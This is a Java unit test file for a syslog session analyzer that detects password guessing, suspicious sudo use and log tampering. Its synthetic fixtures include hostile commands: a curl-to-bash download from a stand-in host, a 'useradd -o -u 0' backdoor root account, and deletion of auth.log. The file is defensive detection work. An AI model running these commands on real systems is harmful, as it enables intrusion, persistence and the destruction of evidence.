package dev.spoor.analyzer.syslog;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.spoor.api.Finding;
import dev.spoor.api.Severity;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SessionsTest {
    private final Messages messages = new Messages();

    private void sshd(int second, String text) {
        say(second, "sshd", text);
    }

    private void say(int second, String program, String text) {
        messages.add(java.time.Instant.parse("2026-03-17T08:00:00Z").plusSeconds(second), "lx", program, text);
    }

    private void sudo(int second, String command) {
        say(second, "sudo", "ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=" + command);
    }

    private void logon(int second, String account) {
        sshd(second, "Accepted password for " + account + " from 192.0.2.7 port 4711 ssh2");
        sshd(second, "pam_unix(sshd:session): session opened for user " + account + " by (uid=0)");
    }

    private List<Map<String, Object>> sessions() {
        return messages.analyze(new SyslogSessions()).rows();
    }

    @Test
    void anOrdinarySession() {
        logon(0, "ann");
        sudo(10, "/usr/bin/apt-get update");
        sshd(60, "pam_unix(sshd:session): session closed for user ann");
        Map<String, Object> session = sessions().get(0);
        assertEquals("2026-03-17T08:00:00Z", session.get("start"));
        assertEquals("2026-03-17T08:01:00Z", session.get("end"));
        assertEquals("sshd", session.get("service"));
        assertEquals("ann", session.get("account"));
        assertEquals("192.0.2.7", session.get("source"));
        assertEquals("password", session.get("method"));
        assertEquals(1L, session.get("commands"));
        assertEquals("root", session.get("became"));
        assertFalse(session.containsKey("reason"));
        assertEquals(List.of(), messages.findings());
    }

    @Test
    void sessionsOfOneAccountAreToldApart() {
        logon(0, "ann");
        logon(5, "ann");
        sshd(7, "pam_unix(sshd:session): session closed for user ann");
        sshd(9, "pam_unix(sshd:session): session closed for user ann");
        List<Map<String, Object>> sessions = sessions();
        assertEquals(2, sessions.size());
        assertEquals("2026-03-17T08:00:05Z", sessions.get(0).get("start"));
        assertEquals("2026-03-17T08:00:09Z", sessions.get(1).get("end"));
    }

    /** Names in a log are the attacker's to choose: what is remembered is bounded, and what is given up is told. */
    @Test
    void manyAccountsCostNoMemoryAndNoSession() {
        int accounts = 20_000;
        for (int i = 0; i < accounts; i++) {
            say(i, "sudo", "u" + i + " : TTY=pts/0 ; PWD=/ ; USER=r" + i + " ; COMMAND=/bin/ls");
        }
        List<Map<String, Object>> sessions = sessions();
        assertEquals(
                accounts,
                sessions.stream().map(s -> s.get("account")).distinct().count());
        assertEquals(accounts, sessions.size());
        assertEquals("2026-03-17T08:00:00Z", sessions.get(0).get("end"), "the one that was given up first");
    }

    @Test
    void guessedAndMisused() {
        for (int i = 0; i < 6; i++) {
            sshd(
                    2 * i,
                    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7"
                            + "  user=ann");
            sshd(2 * i + 1, "Failed password for ann from 192.0.2.7 port 4000 ssh2");
        }
        logon(20, "ann");
        sudo(30, "/bin/bash -c curl http://x.example/a | bash");
        sudo(40, "/usr/sbin/useradd -o -u 0 eve");
        Map<String, Object> session = sessions().get(0);
        assertEquals(6L, session.get("failures"), "each attempt is told twice and counts once");
        assertTrue(session.get("reason").toString().startsWith("6 failed logons before it; "), session::toString);
        assertFalse(session.containsKey("end"));
        List<String> rules = messages.findings().stream().map(Finding::rule).toList();
        assertEquals(List.of("linux-password-guessed", "linux-suspicious-session"), rules);
        assertEquals(Severity.HIGH, messages.findings().get(1).severity());
    }

    @Test
    void whatOnlyPamTellsCounts() {
        for (int i = 0; i < 6; i++) {
            sshd(
                    10 * i,
                    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7"
                            + "  user=ann");
        }
        logon(70, "ann");
        assertEquals(6L, sessions().get(0).get("failures"));
    }

    @Test
    void failuresAreForgotten() {
        for (int i = 0; i < 9; i++) {
            sshd(i, "Failed password for ann from 192.0.2.7 port 4000 ssh2");
        }
        logon(4_000, "ann");
        assertEquals(0L, sessions().get(0).get("failures"));
    }

    @Test
    void commandsQuickerThanAnybodyTypes() {
        logon(0, "ann");
        for (int i = 0; i < 12; i++) {
            sudo(10, "/usr/bin/systemctl restart unit" + i);
        }
        assertEquals("commands quicker than anybody types", sessions().get(0).get("reason"));
    }

    @Test
    void sudoRefuses() {
        logon(0, "ann");
        for (int i = 0; i < 3; i++) {
            say(10 + i, "sudo", "ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/sh");
        }
        assertEquals(
                "asked sudo for what it may not; sudo refused 3 times",
                sessions().get(0).get("reason"));
    }

    @Test
    void cronIsNobodysSession() {
        say(0, "CRON", "pam_unix(cron:session): session opened for user root by (uid=0)");
        say(1, "CRON", "pam_unix(cron:session): session closed for user root");
        assertEquals(List.of(), sessions());
    }

    @Test
    void readingALogIsNotDeletingIt() {
        assertEquals(List.of(), Suspicion.of("/usr/bin/tail -f /var/log/syslog"));
        assertEquals(List.of("deletes traces"), Suspicion.of("/bin/rm /var/log/auth.log"));
        assertEquals(List.of(), Suspicion.of("/bin/bash /opt/backup/run.sh"));
        assertEquals(List.of("became root in a shell"), Suspicion.of("/bin/bash"));
    }
}
